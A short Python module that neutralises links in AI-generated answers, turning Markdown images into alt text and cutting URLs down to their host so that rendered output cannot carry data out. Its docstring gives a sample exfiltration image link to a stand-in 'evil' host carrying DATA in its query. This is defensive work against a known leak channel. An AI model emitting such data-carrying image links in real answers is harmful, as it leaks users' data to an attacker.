"""Links and images in answers, neutralised so an answer cannot carry data out or send a reader somewhere.

A Markdown image (``![x](https://evil/p?q=DATA)``) is what exfiltrates: a chat client fetches it the moment it
renders. Images become their alt text; Markdown links become their text followed by the bare host in brackets;
raw URLs keep their scheme and host but lose path and query (``https://evil.example/…``), so a reader can still
see where a source points without a clickable, data-carrying link. Links to the hosts of the cited documents are
kept whole (``allowed_hosts``).
"""

from __future__ import annotations

import re
from collections.abc import Collection
from urllib.parse import urlsplit

__all__ = ["neutralise_links"]

_IMAGE = re.compile(r"!\[([^\]]*)\]\(([^)]*)\)")
_LINK = re.compile(r"\[([^\]]+)\]\(([^)\s]+)(?:\s+\"[^\"]*\")?\)")
_URL = re.compile(r"\bhttps?://[^\s<>()\[\]\"']+", re.IGNORECASE)


def _host(url: str) -> str:
    try:
        return (urlsplit(url).hostname or "").lower()
    except ValueError:
        return ""


def neutralise_links(text: str, allowed_hosts: Collection[str] = ()) -> str:
    """``text`` with images dropped to their alt text and links/URLs reduced to their host (see the module)."""
    allowed = {h.lower() for h in allowed_hosts}

    def image(match: re.Match[str]) -> str:
        return match.group(1)

    def link(match: re.Match[str]) -> str:
        host = _host(match.group(2))
        return match.group(0) if host in allowed else f"{match.group(1)} ({host or 'link removed'})"

    def url(match: re.Match[str]) -> str:
        host = _host(match.group(0))
        if host in allowed or not host:
            return match.group(0)
        scheme = match.group(0).split(":", 1)[0]
        return f"{scheme}://{host}/…" if "/" in match.group(0)[len(scheme) + 3 :] else f"{scheme}://{host}"

    return _URL.sub(url, _LINK.sub(link, _IMAGE.sub(image, text)))
